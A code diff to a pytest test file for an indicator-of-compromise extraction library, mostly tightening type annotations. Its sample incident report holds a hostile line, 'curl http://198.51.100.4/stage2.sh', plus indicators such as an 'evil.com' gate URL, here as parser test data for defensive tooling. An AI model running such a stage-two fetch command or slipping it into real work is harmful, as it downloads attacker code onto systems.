@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from incidentparse.ioc import extract_indicators, find_indicators
+from incidentparse.models import Indicator
 
 REPORT = """# Incident
 
@@ -30,7 +31,7 @@ curl http://198.51.100.4/stage2.sh
 """
 
 
-def by_value() -> dict[str, object]:
+def by_value() -> dict[str, Indicator]:
     return {i.value: i for i in extract_indicators(REPORT)}
 
 
@@ -48,13 +49,14 @@ def test_dedup_keeps_every_occurrence_in_order() -> None:
     ip = found[0]
     assert [o.line for o in ip.occurrences] == [7, 17]
     assert ip.line == 7 and ip.column == 3
-    assert REPORT[ip.start : ip.end] == ip.raw  # type: ignore[misc]
+    assert REPORT[ip.start : ip.end] == ip.raw
 
 
 def test_find_indicators_yields_every_occurrence_in_text_order() -> None:
     found = list(find_indicators(REPORT))
     assert [i.value for i in found].count("203.0.113.7") == 2
-    assert [i.start for i in found] == sorted(i.start for i in found)  # type: ignore[type-var]
+    starts = [i.occurrences[0].start for i in found]
+    assert starts == sorted(starts)
 
 
 @pytest.mark.parametrize(
@@ -68,18 +70,18 @@ def test_find_indicators_yields_every_occurrence_in_text_order() -> None:
     ],
 )
 def test_context_is_the_closest_note(value: str, context: str) -> None:
-    assert by_value()[value].context == context  # type: ignore[attr-defined]
+    assert by_value()[value].context == context
 
 
 def test_fields_of_the_model() -> None:
     found = by_value()
     url = found["http://evil.com/gate.php"]
-    assert (url.type, url.defanged, url.category, url.in_code) == ("url", True, "network", False)  # type: ignore[attr-defined]
-    assert found["203.0.113.7"].scope == "documentation"  # type: ignore[attr-defined]
-    assert found["10.1.2.3"].scope == "private"  # type: ignore[attr-defined]
-    assert found["C:\\Program Files\\Evil\\svc.exe"].in_code is True  # type: ignore[attr-defined]
-    assert found["http://198.51.100.4/stage2.sh"].in_code is True  # type: ignore[attr-defined]
-    assert found["d41d8cd98f00b204e9800998ecf8427e"].category == "file"  # type: ignore[attr-defined]
+    assert (url.type, url.defanged, url.category, url.in_code) == ("url", True, "network", False)
+    assert found["203.0.113.7"].scope == "documentation"
+    assert found["10.1.2.3"].scope == "private"
+    assert found["C:\\Program Files\\Evil\\svc.exe"].in_code is True
+    assert found["http://198.51.100.4/stage2.sh"].in_code is True
+    assert found["d41d8cd98f00b204e9800998ecf8427e"].category == "file"
     assert all(i.section is None and i.label is None for i in extract_indicators(REPORT))
 
 
